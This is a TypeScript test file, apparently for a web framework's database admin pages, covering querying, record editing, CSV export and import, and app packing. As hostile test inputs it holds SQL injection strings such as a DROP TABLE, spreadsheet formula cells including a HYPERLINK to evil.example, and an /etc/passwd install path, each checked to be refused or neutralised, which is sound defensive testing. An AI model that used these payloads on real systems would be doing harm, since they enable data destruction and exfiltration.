// appadmin over HTTP against a real server and a test app's SQLite database:
// tables with counts, browse / sort / page, query box (and break-out attempts),
// insert / edit / delete, update and delete all with confirmation, CSV, sql.log,
// pack → install → same pages, compile buttons.
import { test, before, after } from 'node:test'
import assert from 'node:assert/strict'
import { type TestServer, type Agent } from '../helpers/server'
import { startAdminServer, loggedIn } from '../admin/helpers'
import { SHOP_APP } from '../pack/testapp'
import { parseCsv } from '../../server/dal'

let s: TestServer
let agent: Agent
let csrf: string

before(async () => {
  s = await startAdminServer({ https: false, apps: { shop: SHOP_APP } })
  ;({ agent, csrf } = await loggedIn(s))
  assert.equal((await s.request('/shop/default/index')).status, 200)  // seeds apple, banana
})
after(() => s.stop())

function multipart(fields: Record<string, string>, files: Record<string, { name: string; data: Buffer | string }>) {
  const b = '----qk' + Math.random().toString(16).slice(2)
  const parts: Buffer[] = []
  for (const [k, v] of Object.entries(fields)) parts.push(Buffer.from(`--${b}\r\nContent-Disposition: form-data; name="${k}"\r\n\r\n${v}\r\n`))
  for (const [k, f] of Object.entries(files)) parts.push(Buffer.from(`--${b}\r\nContent-Disposition: form-data; name="${k}"; filename="${f.name}"\r\nContent-Type: application/octet-stream\r\n\r\n`), Buffer.from(f.data), Buffer.from('\r\n'))
  parts.push(Buffer.from(`--${b}--\r\n`))
  return { method: 'POST', body: Buffer.concat(parts), headers: { 'Content-Type': `multipart/form-data; boundary=${b}` } }
}

test('index lists the databases with tables and row counts; the site links to it', async () => {
  const site = await agent.request('/admin/default/index')
  assert.match(site.body, /\/admin\/appadmin\/index\/shop/)
  const r = await agent.request('/admin/appadmin/index/shop')
  assert.equal(r.status, 200, r.body.slice(0, 500))
  assert.match(r.body, /data-table="thing"[\s\S]*?<td class="qk-count">2<\/td>/)
  assert.equal((await s.request('/admin/appadmin/index/shop')).status, 303, 'not logged in: to the login page')
})

test('browse, sort, query; break-out text is refused and changes nothing', async () => {
  const r = await agent.request('/admin/appadmin/select/db/db?table=thing'.replace('/db/db', '/shop/db') + '&orderby=value&desc=1')
  assert.equal(r.status, 200, r.body.slice(0, 400))
  assert.ok(r.body.indexOf('banana') < r.body.indexOf('apple'), 'sorted by value descending')
  assert.match(r.body, /ORDER BY .*DESC/)
  const q = await agent.request(`/admin/appadmin/select/shop/db?query=${encodeURIComponent("thing.value > 3 and thing.name like 'b%'")}`)
  assert.match(q.body, /1 row</)
  assert.match(q.body, /banana/)
  for (const bad of ['thing.value > 0; DROP TABLE thing', "thing.name = '' or 1=1 --", 'nothing.x = 1']) {
    const b = await agent.request(`/admin/appadmin/select/shop/db?query=${encodeURIComponent(bad)}`)
    assert.match(b.body, /id="query-error"[^>]*>Invalid query text: /, bad)
  }
  const del = await agent.request('/admin/appadmin/delete_all/shop/db', { form: { _csrf: csrf, query: 'thing.id > 0; DELETE FROM thing', confirm: '1' } })
  assert.equal(del.status, 400)
  assert.match(del.body, /Invalid query text/)
  assert.match((await agent.request('/admin/appadmin/index/shop')).body, /<td class="qk-count">2<\/td>/, 'nothing changed')
})

test('paging: 25 rows a page, next link', async () => {
  const rows = Array.from({ length: 30 }, (_, i) => `page${String(i).padStart(2, '0')},${100 + i}`).join('\r\n')
  await agent.request('/admin/appadmin/import_csv/shop/db/thing', { form: { _csrf: csrf, csvtext: `thing.name,thing.value\r\n${rows}` } })
  const q = encodeURIComponent('thing.value >= 100')
  const p1 = await agent.request(`/admin/appadmin/select/shop/db?query=${q}&orderby=value`)
  assert.match(p1.body, /30 rows</)
  assert.match(p1.body, /page 1 of 2/)
  assert.match(p1.body, /id="next-page"/)
  const p2 = await agent.request(`/admin/appadmin/select/shop/db?query=${q}&orderby=value&page=2`)
  assert.match(p2.body, /page 2 of 2/)
  assert.equal((p2.body.match(/<tr><td>/g) ?? []).length, 5)
  assert.match(p2.body, /page29/)
  const del = await agent.request('/admin/appadmin/delete_all/shop/db', { form: { _csrf: csrf, query: 'thing.value >= 100', confirm: '1' } })
  assert.equal(del.status, 303)
})

test('insert, validation error, edit, delete one record', async () => {
  const bad = await agent.request('/admin/appadmin/insert/shop/db/thing', { form: { _csrf: csrf, name: '', value: '3' } })
  assert.equal(bad.status, 200)
  assert.match(bad.body, /<form[^>]*id="record-form"/, 'SQLFORM of forms/')
  assert.match(bad.body, /Enter a value/)
  const ok = await agent.request('/admin/appadmin/insert/shop/db/thing', { form: { _csrf: csrf, name: 'cherry', value: '3' } })
  assert.equal(ok.status, 303)
  const list = await agent.request(`/admin/appadmin/select/shop/db?query=${encodeURIComponent("thing.name = 'cherry'")}`)
  const id = /edit\/shop\/db\/thing\/(\d+)/.exec(list.body)![1]
  const ed = await agent.request(`/admin/appadmin/edit/shop/db/thing/${id}`, { form: { _csrf: csrf, name: 'cherry pie', value: '4' } })
  assert.equal(ed.status, 303)
  assert.match((await agent.request(`/admin/appadmin/edit/shop/db/thing/${id}`)).body, /value="cherry pie"/)
  assert.match((await agent.request(`/admin/appadmin/select/shop/db?query=${encodeURIComponent('thing.value = 4')}`)).body, /cherry pie/)
  assert.equal((await agent.request('/admin/appadmin/insert/shop/db/thing', { form: { name: 'x' } })).status, 403, 'CSRF token needed')
  assert.equal((await agent.request(`/admin/appadmin/edit/shop/db/thing/${id}`, { form: { _csrf: csrf, _formname: `thing/${id}`, name: 'x', value: '1', delete_this_record: 'on' } })).status, 303)
  assert.equal((await agent.request(`/admin/appadmin/edit/shop/db/thing/${id}`)).status, 404)
})

test('update all and delete all ask for confirmation first', async () => {
  const ask = await agent.request('/admin/appadmin/update_all/shop/db', { form: { _csrf: csrf, query: "thing.name = 'apple'", field: 'value', value: '11' } })
  assert.equal(ask.status, 200)
  assert.match(ask.body, /Update 1 record of thing\?/)
  assert.match(ask.body, /UPDATE/)
  const go = await agent.request('/admin/appadmin/update_all/shop/db', { form: { _csrf: csrf, query: "thing.name = 'apple'", field: 'value', value: '11', confirm: '1' } })
  assert.equal(go.status, 303)
  assert.match((await agent.request(`/admin/appadmin/select/shop/db?query=${encodeURIComponent('thing.value = 11')}`)).body, /1 row</)
  const askDel = await agent.request('/admin/appadmin/delete_all/shop/db', { form: { _csrf: csrf, query: 'thing.value = 11' } })
  assert.match(askDel.body, /Delete 1 record of thing\?/)
  assert.match((await agent.request(`/admin/appadmin/select/shop/db?query=${encodeURIComponent('thing.value = 11')}`)).body, /1 row</, 'not deleted before confirming')
})

test('CSV export and import of a table and of the database; sql.log', async () => {
  const csv = await agent.request('/admin/appadmin/csv/shop/db/thing')
  assert.equal(csv.status, 200)
  assert.match(String(csv.headers['content-type']), /text\/csv/)
  assert.match(csv.body, /thing\.name/)
  const whole = await agent.request('/admin/appadmin/csv/shop/db')
  assert.match(whole.body, /^TABLE thing/)
  const before = Number(/<td class="qk-count">(\d+)<\/td>/.exec((await agent.request('/admin/appadmin/index/shop')).body)![1])
  const imp = await agent.request('/admin/appadmin/import_csv/shop/db/thing', multipart({ _csrf: csrf }, { csvfile: { name: 't.csv', data: csv.body } }))
  assert.equal(imp.status, 303, imp.body.slice(0, 300))
  const after = Number(/<td class="qk-count">(\d+)<\/td>/.exec((await agent.request('/admin/appadmin/index/shop')).body)![1])
  assert.equal(after, before * 2)
  const log = await agent.request('/admin/appadmin/sqllog/shop/db')
  assert.match(log.body, /CREATE TABLE/)
})

test('CSV download is spreadsheet-safe (formula cells neutralised), ?raw=1 the exact dump; a download imported back is exact (issue 16, defect 5)', async () => {
  const hostile = ['=HYPERLINK("http://evil.example/?x")', '+1+1', '-2+3', '@SUM(A1)', '\tTAB=1', '\r=CR', "'=quoted", "''-x"]
  const text = 'thing.name,thing.value\r\n' + hostile.map((h, i) => `"${h.replace(/"/g, '""')}",${i + 1}`).join('\r\n') + '\r\n"-7",-5\r\n'
  // a pasted CSV is imported as written except for the `'` the download adds: "'=quoted" arrives as "=quoted"
  const imp = await agent.request('/admin/appadmin/import_csv/shop/db/thing', { form: { _csrf: csrf, csvtext: text } })
  assert.equal(imp.status, 303, imp.body.slice(0, 300))
  const stored = ['=HYPERLINK("http://evil.example/?x")', '+1+1', '-2+3', '@SUM(A1)', '\tTAB=1', '\r=CR', '=quoted', "'-x", '-7']
  const namesIn = (csv: string) => parseCsv(csv).slice(1).map((r) => r[1]!)
  const safe = await agent.request('/admin/appadmin/csv/shop/db/thing')
  assert.equal(safe.status, 200)
  const cells = parseCsv(safe.body).flat()
  for (const c of cells) assert.ok(!/^[=+\-@\t\r]/.test(c) || /^-?\d+$/.test(c), `a spreadsheet would run ${JSON.stringify(c)}`)
  assert.ok(safe.body.includes(`"'=HYPERLINK(""http://evil.example/?x"")"`))
  assert.ok(safe.body.includes(`"'+1+1"`) && safe.body.includes(`"'@SUM(A1)"`) && safe.body.includes(`"''-x"`))
  assert.match(safe.body, /\r\n\d+,-7,-5\r\n/, 'numbers stay numbers')
  const whole = await agent.request('/admin/appadmin/csv/shop/db')
  assert.ok(whole.body.includes(`"'-2+3"`))
  const raw = await agent.request('/admin/appadmin/csv/shop/db/thing?raw=1')
  const rawNames = namesIn(raw.body)
  for (const n of stored) assert.equal(rawNames.filter((x) => x === n).length, 1, n)
  // the safe download imported back: the very same names again
  const back = await agent.request('/admin/appadmin/import_csv/shop/db/thing', multipart({ _csrf: csrf }, { csvfile: { name: 't.csv', data: safe.body } }))
  assert.equal(back.status, 303, back.body.slice(0, 300))
  const again = namesIn((await agent.request('/admin/appadmin/csv/shop/db/thing?raw=1')).body)
  for (const n of stored) assert.equal(again.filter((x) => x === n).length, 2, n)
  assert.ok(!again.some((x) => x.startsWith("'=") || x.startsWith("'+")), 'no neutralising quote stored')
})

test('pack → install under a new name → the same pages; bad archive refused', async () => {
  const w2t = await agent.request('/admin/appadmin/pack_app/shop')
  assert.equal(w2t.status, 200)
  assert.equal(w2t.buffer[0], 0x1f)
  const inst = await agent.request('/admin/appadmin/install', multipart({ _csrf: csrf, name: 'shopcopy' }, { w2t: { name: 'shop.w2t', data: w2t.buffer } }))
  assert.equal(inst.status, 303, inst.body.slice(0, 300))
  await new Promise((r) => setTimeout(r, 1100))  // a new app folder is noticed by a rescan at most once a second
  const a = await s.request('/shop/default/about')
  const b = await s.request('/shopcopy/default/about')
  assert.equal(b.status, 200)
  assert.equal(b.body, a.body)
  const file = require('node:path').join(s.folder, 'shop.w2t')
  require('node:fs').writeFileSync(file, w2t.buffer)
  const byPath = await agent.request('/admin/appadmin/install', multipart({ _csrf: csrf, name: 'shoppath', path: file }, {}))
  assert.equal(byPath.status, 303, byPath.body.slice(0, 300))
  assert.ok(require('node:fs').existsSync(require('node:path').join(s.folder, 'applications', 'shoppath', 'controllers', 'default.ts')))
  const noFile = await agent.request('/admin/appadmin/install', multipart({ _csrf: csrf, name: 'nofile', path: '/etc/passwd' }, {}))
  assert.equal(noFile.status, 400)
  assert.match(noFile.body, /No .w2t file at/)
  const evil = await agent.request('/admin/appadmin/install', multipart({ _csrf: csrf, name: 'evil' }, { w2t: { name: 'x.w2t', data: 'not gzip' } }))
  assert.equal(evil.status, 400)
  assert.match(evil.body, /Refused archive: not a gzip file/)
})

test('compile and remove compiled buttons', async () => {
  assert.equal((await agent.request('/admin/appadmin/compile_app/shop', { form: { _csrf: csrf } })).status, 303)
  assert.match((await agent.request('/admin/appadmin/index/shop')).body, /id="compiled-badge"/)
  assert.equal((await s.request('/shop/default/plain')).body, 'plain 42')
  assert.equal((await agent.request('/admin/appadmin/compile_app/shop', { form: { _csrf: csrf, remove: '1' } })).status, 303)
  assert.doesNotMatch((await agent.request('/admin/appadmin/index/shop')).body, /id="compiled-badge"/)
})
